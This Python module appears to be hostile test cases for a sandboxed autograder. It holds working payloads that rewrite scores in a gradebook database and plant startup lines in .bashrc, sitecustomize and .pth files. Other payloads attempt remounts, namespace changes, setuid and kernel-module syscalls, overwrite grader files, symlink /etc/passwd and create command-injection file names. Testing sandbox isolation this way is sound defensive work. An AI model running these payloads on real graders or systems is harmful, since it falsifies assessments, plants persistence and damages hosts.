"""Cheats that write: the gradebook, other learners' files, start-up files, and files that later readers trip over."""

from __future__ import annotations

from hostile.model import Trick, prelude

MARK = "kvlab-hostile-was-here"
"""Name of every file that these tricks try to leave outside their own folder."""

_COURSE = """
import glob, os


def _up(*patterns):
    here = os.getcwd()
    for n in range(7):
        for pattern in patterns:
            yield from sorted(glob.glob(os.path.abspath(os.path.join(here, *[".."] * n, pattern))))[:200]
"""

_MANUAL = (
    _COURSE
    + """
import sqlite3

for _path in _up("gradebook.db"):
    try:
        with sqlite3.connect(_path, timeout=1) as _db:
            _db.execute("update grade set manual_score = 100, needs_manual_grade = 0")
            _db.execute("update grade set extra_credit = 5")
    except sqlite3.Error:
        pass
"""
)

_LATER = (
    _COURSE
    + """
import sqlite3, threading, time


def _write():
    for _ in range(300):
        for path in _up("gradebook.db"):
            try:
                with sqlite3.connect(path, timeout=0.1) as db:
                    db.execute("update grade set auto_score = max_score, extra_credit = 5")
            except sqlite3.Error:
                pass
        time.sleep(0.1)


threading.Thread(target=_write, daemon=False).start()
"""
)

_TRIGGER = (
    _COURSE
    + """
import sqlite3

for _path in _up("gradebook.db"):
    try:
        with sqlite3.connect(_path, timeout=1) as _db:
            _db.execute("create trigger generous after update on grade begin update grade set extra_credit = 5; end")
    except sqlite3.Error:
        pass
"""
)

_LOCK = (
    _COURSE
    + """
import sqlite3, time

_held = []
for _path in _up("gradebook.db"):
    _db = sqlite3.connect(_path, isolation_level=None, timeout=1)
    _db.execute("begin exclusive")
    _held.append(_db)
time.sleep(20 if _held else 0)
"""
)

_FILES = (
    _COURSE
    + """
for _path in _up("source/*/*.ipynb", "release/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "nbgrader_config.py", "cases/*.py", "answers/*/*.py", "kvgrade/*.py"):
    try:
        with open(_path, "ab") as _file:
            _file.write(b" ")
    except OSError:
        pass
"""
)

_HOME = """
import os, site, sys

_line = "import os\\nos.environ['KVLAB_HOSTILE'] = '1'\\n"
for _path in ["~/.ipython/profile_default/startup/00-first.py", "~/.jupyter/jupyter_config.py", "~/.config/matplotlib/matplotlibrc",
              "~/.pythonrc.py", "~/.bashrc", "~/.config/pip/pip.conf", "~/.local/lib/python3.11/site-packages/sitecustomize.py",
              os.path.join(site.getusersitepackages(), "usercustomize.py"), *(os.path.join(p, "MARK.pth") for p in sys.path if p.endswith("site-packages"))]:
    _path = os.path.expanduser(_path)
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _file:
            _file.write(_line)
    except OSError:
        pass
""".replace("MARK", MARK)

_EVERYWHERE = """
import os, sys, tempfile

for _folder in ["/", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/usr/local/bin", "/root", "/home", "/run", "/srv", "/grader", "/job",
                os.path.expanduser("~"), tempfile.gettempdir(), os.getcwd(), *[os.path.abspath(os.path.join(*[".."] * n)) for n in range(1, 7)],
                *sys.path, os.path.dirname(sys.executable), os.path.dirname(os.__file__)]:
    try:
        with open(os.path.join(_folder, "MARK"), "w") as _file:
            _file.write("x")
    except OSError:
        pass
""".replace("MARK", MARK)

_MOUNT = """
import ctypes, os

_libc = ctypes.CDLL(None, use_errno=True)
for _place in (b"/", b"/etc", b"/usr", b"/grader", b"/proc"):
    _libc.mount(None, _place, None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, without MS_RDONLY
for _flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):  # new user, mount, network, pid namespaces
    _libc.unshare(_flag)
_libc.chroot(b"..")
for _number in range(0, 200):
    _libc.syscall(175 + _number % 2, 0, 0, b"")  # init_module and delete_module
try:
    os.setuid(0)
    open("/etc/MARK", "w").close()
except OSError:
    pass
try:
    os.mknod("/tmp/MARK-device", 0o60600, os.makedev(8, 0))
except OSError:
    pass
""".replace("MARK", MARK)

_PROC_WRITE = """
import os

for _path, _text in [("/proc/self/oom_score_adj", "-1000"), ("/proc/sys/kernel/core_pattern", "|/bin/false"), ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"),
                     ("/proc/1/oom_score_adj", "1000"), ("/proc/sysrq-trigger", "")]:
    try:
        with open(_path, "w") as _file:
            if _text:
                _file.write(_text)
    except OSError:
        pass
"""

_TRAPS = """
import os

for _name in ("result.json", "out.json", "answers.json", "reply", "done", "01_kv_cache.ipynb.new"):
    try:
        os.symlink("/etc/passwd", _name)
    except OSError:
        pass
for _name in ("result", "output", "feedback.html"):
    try:
        os.mkfifo(_name)
    except OSError:
        pass
try:
    os.makedirs("a/" * 200)
except OSError:
    pass
for _name in ("\\n", "..\\\\..", "-rf", "$(id)", "'; drop table grade; --", "x" * 255, "\\udcff"):
    try:
        with open(_name, "wb") as _file:
            _file.write(b"")
    except (OSError, ValueError):
        pass
"""

_OWN_FOLDER = """
import os, shutil

for _name in os.listdir("."):
    try:
        shutil.rmtree(_name) if os.path.isdir(_name) else os.remove(_name)
    except OSError:
        pass
try:
    os.chmod(".", 0)
    os.rmdir(os.getcwd())
except OSError:
    pass
"""

_CWD = """
import os

os.chdir("/")
os.umask(0o777)
os.environ.clear()
"""

_WORKER = """
import os, sys

for _folder in {os.path.dirname(os.path.abspath(getattr(m, "__file__", None) or ".")) for m in list(sys.modules.values())}:
    for _name in ("worker.py", "wire.py", "confine.py", "numpy.py"):
        try:
            with open(os.path.join(_folder, _name), "r+") as _file:
                _file.write("print('owned')\\n")
        except OSError:
            pass
"""

TRICKS: tuple[Trick, ...] = (
    prelude(
        "gradebook-scores", "gradebook.db is found, every manual score is set to 100 and extra credit given.", _MANUAL
    ),
    prelude("gradebook-later", "A thread goes on writing full marks into gradebook.db.", _LATER),
    prelude("gradebook-trigger", "A trigger in gradebook.db gives extra credit at every update.", _TRIGGER),
    prelude("gradebook-locked", "gradebook.db is locked for 20 seconds.", _LOCK),
    prelude(
        "course-files-changed",
        "Source, release, hand-ins, cases and the grader's own files get one more byte.",
        _FILES,
        harmful=True,
    ),
    prelude(
        "home-start-up-files",
        "Start-up files of IPython, Jupyter, Python and the shell are written in the home.",
        _HOME,
        harmful=True,
    ),
    prelude("files-everywhere", "A file is written to every folder that can be named.", _EVERYWHERE, harmful=True),
    prelude(
        "worker-rewritten", "The files of the running worker and its modules are overwritten.", _WORKER, harmful=True
    ),
    prelude(
        "remount-and-namespaces",
        "Folders are mounted read-write, namespaces made, a device created, root asked for.",
        _MOUNT,
        harmful=True,
    ),
    prelude("kernel-settings", "Settings in /proc and /sys are written.", _PROC_WRITE, harmful=True),
    prelude(
        "traps-in-work-folder",
        "Links, pipes, deep folders and odd names are left where results are read.",
        _TRAPS,
        harmful=True,
    ),
    prelude("own-folder-removed", "The work folder is emptied and removed.", _OWN_FOLDER, harmful=True),
    prelude("process-settings", "Working directory, umask and environment are changed.", _CWD),
)
